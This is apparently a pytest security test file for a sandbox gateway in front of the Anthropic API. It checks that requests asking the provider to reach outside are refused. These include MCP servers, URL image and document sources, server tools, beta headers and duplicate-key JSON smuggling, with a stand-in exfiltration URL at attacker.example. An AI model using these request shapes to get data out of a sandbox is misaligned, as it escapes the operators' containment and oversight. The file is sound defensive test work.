"""Egress through the provider: a step asks the model provider to reach out for it (MCP servers, server tools,
URL sources, beta features). Each attack is sent to a real Gateway on loopback with a real HTTP client; the
transcript shows the payload reached the gateway, and the upstream's own record shows it never got further.
"""

from __future__ import annotations

import json

import pytest

from tests.security.gateway_kit import (
    MODEL,
    STEP_MAX_TOKENS,
    RecordingScriptedUpstream,
    error_message,
    message_request,
    raw_post,
    transcript_lines,
)
from tests.unit.gateway.fake_anthropic import FakeAnthropic, Reply
from wave_sandbox.gateway import Budget, Gateway
from wave_sandbox.gateway.anthropic_upstream import AnthropicUpstream

EXFILTRATION_URL = "https://attacker.example/mcp?d=c2VjcmV0"
CLIENT_TOOL = {"name": "bash", "description": "run", "input_schema": {"type": "object", "properties": {}}}
SERVER_TOOLS = [
    {"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 5},
    {"type": "web_search_20250305", "name": "web_search"},
    {"type": "code_execution_20250825", "name": "code_execution"},
    {"type": "bash_20250124", "name": "bash"},
    {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"},
    {"type": "mcp_toolset", "mcp_server_name": "attacker"},
]
HOSTILE_BODIES = {
    "mcp_servers": message_request(mcp_servers=[{"type": "url", "url": EXFILTRATION_URL, "name": "attacker"}]),
    "container": message_request(container="container_011CPR5CNjB747bTd36fQLFk"),
    "metadata": message_request(metadata={"user_id": EXFILTRATION_URL}),
    "service_tier": message_request(service_tier="priority"),
    "image by url": message_request(messages=[{"role": "user", "content": [
        {"type": "image", "source": {"type": "url", "url": EXFILTRATION_URL}}]}]),
    "document by url": message_request(messages=[{"role": "user", "content": [
        {"type": "document", "source": {"type": "url", "url": EXFILTRATION_URL}}]}]),
    "file by id": message_request(messages=[{"role": "user", "content": [
        {"type": "document", "source": {"type": "file", "file_id": "file_011CNha8iCJcU1wXNR6q4V8w"}}]}]),
    "server tool use in history": message_request(messages=[
        {"role": "user", "content": "fetch"},
        {"role": "assistant", "content": [{"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_fetch",
                                           "input": {"url": EXFILTRATION_URL}}]},
        {"role": "user", "content": "go on"}]),
    "citations on a text block": message_request(messages=[{"role": "user", "content": [
        {"type": "text", "text": "hi", "citations": [{"type": "web_search_result_location", "url": EXFILTRATION_URL}]}]}]),
    "max_tokens over the persona's": message_request(max_tokens=STEP_MAX_TOKENS * 64),
    "a client tool the step was not given": message_request(tools=[CLIENT_TOOL | {"name": "fetch_url"}]),
    # Prompt caching bills as the price table says only where the agent puts its 5-minute breakpoints.
    "an hour-long cache write": message_request(system=[{"type": "text", "text": "s",
                                                         "cache_control": {"type": "ephemeral", "ttl": "1h"}}]),
    "cache_control on the model's tool call": message_request(messages=[
        {"role": "user", "content": "run it"},
        {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_1", "name": "bash", "input": {},
                                           "cache_control": {"type": "ephemeral"}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_1", "content": "ok"}]}]),
    "five cache breakpoints": message_request(system=[{"type": "text", "text": str(n), "cache_control": {
        "type": "ephemeral"}} for n in range(5)]),
} | {f"server tool {tool['type']}": message_request(tools=[tool]) for tool in SERVER_TOOLS}  # fmt: skip


@pytest.fixture
def scripted_gateway(tmp_path):
    upstream = RecordingScriptedUpstream(tmp_path)
    with Gateway(upstream, "127.0.0.1") as gateway:
        token = gateway.register_step(
            "hostile", tmp_path / "t.jsonl", Budget(), model=MODEL, max_tokens=STEP_MAX_TOKENS, tools=["bash"]
        )
        yield gateway, token, upstream, tmp_path / "t.jsonl"


@pytest.fixture
def forwarding_gateway(tmp_path):
    """The real forwarding code (AnthropicUpstream) in front of a local stand-in API that records what arrives."""
    fake = FakeAnthropic()
    upstream = AnthropicUpstream("sk-ant-api03-host-key-for-the-test", base_url=fake.base_url)
    try:
        with Gateway(upstream, "127.0.0.1") as gateway:
            token = gateway.register_step("hostile", tmp_path / "t.jsonl", Budget(), model=MODEL, max_tokens=STEP_MAX_TOKENS)
            yield gateway, token, fake, tmp_path / "t.jsonl"
    finally:
        fake.stop()


@pytest.mark.parametrize("attack", sorted(HOSTILE_BODIES))
def test_a_request_asking_the_provider_to_reach_out_is_refused_and_never_forwarded(scripted_gateway, attack):
    gateway, token, upstream, transcript = scripted_gateway
    body = json.dumps(HOSTILE_BODIES[attack]).encode()

    status, answer = raw_post(gateway, body, token)

    assert status == 403 and answer["error"]["type"] == "permission_error"
    assert error_message(answer).startswith("wave-sandbox: ")
    assert upstream.received == [], f"{attack} reached the upstream"
    [record] = transcript_lines(transcript)  # the payload reached the gateway, which kept a capped note of it
    assert record["status"] == 403 and record["request"]["bytes"] == len(body)
    assert record["request"]["head"] == body[:1024].decode()
    assert gateway.usage("hostile").requests == 1  # refused, and counted


def test_the_mcp_refusal_says_what_is_allowed(scripted_gateway):
    gateway, token, _upstream, _transcript = scripted_gateway

    _status, answer = raw_post(gateway, HOSTILE_BODIES["mcp_servers"], token)

    assert error_message(answer).startswith("wave-sandbox: the request field 'mcp_servers' is not allowed; allowed: ")


def test_the_steps_own_client_tools_pass(scripted_gateway):
    gateway, token, upstream, _transcript = scripted_gateway

    status, _answer = raw_post(gateway, message_request(tools=[CLIENT_TOOL]), token)

    assert status == 200 and upstream.received[0].payload["tools"] == [CLIENT_TOOL]


def test_beta_headers_and_query_parameters_are_refused_before_the_upstream(forwarding_gateway):
    gateway, token, fake, transcript = forwarding_gateway
    beta = {"anthropic-beta": "mcp-client-2025-04-04,web-fetch-2025-09-10"}

    beta_status, beta_answer = raw_post(gateway, message_request(), token, headers=beta)
    query_status, query_answer = raw_post(gateway, message_request(), token, path="/v1/messages?beta=true")
    counting_status, _ = raw_post(gateway, {"model": MODEL, "messages": [], "mcp_servers": []}, token,
                                  path="/v1/messages/count_tokens")  # fmt: skip

    assert (beta_status, query_status, counting_status) == (403, 403, 403)
    assert "anthropic-beta header (mcp-client-2025-04-04" in error_message(beta_answer)
    assert "query parameters (beta=true) are not allowed" in error_message(query_answer)
    assert fake.received == []  # nothing crossed the wire to the provider
    assert [record["status"] for record in transcript_lines(transcript)] == [403, 403, 403]


def test_only_allowed_fields_and_headers_cross_the_wire_rebuilt_from_the_parsed_request(forwarding_gateway):
    gateway, token, fake, _transcript = forwarding_gateway
    fake.replies.append(Reply(body={"type": "message", "role": "assistant", "content": [], "usage": {}}))
    # Duplicate keys: a provider that kept the first "tools" would see a server tool the gateway never checked.
    request = json.dumps(message_request())[:-1]
    smuggled = f'{request}, "tools": {json.dumps(SERVER_TOOLS[:1])}, "tools": {json.dumps([CLIENT_TOOL])}}}'
    headers = {"anthropic-version": "2023-06-01", "x-stainless-lang": "python", "cookie": "a=b",
               "x-forwarded-for": "attacker.example"}  # fmt: skip

    status, _answer = raw_post(gateway, smuggled.encode(), token, headers=headers)

    assert status == 200
    [arrived] = fake.received
    assert arrived.path == "/v1/messages"
    sent = json.loads(arrived.body)
    assert "web_fetch" not in arrived.body.decode() and sent["tools"] == [CLIENT_TOOL]
    assert set(arrived.headers) <= {"host", "accept-encoding", "content-length", "content-type", "user-agent",
                                    "x-api-key", "anthropic-version"}  # fmt: skip
    assert arrived.headers["anthropic-version"] == "2023-06-01"
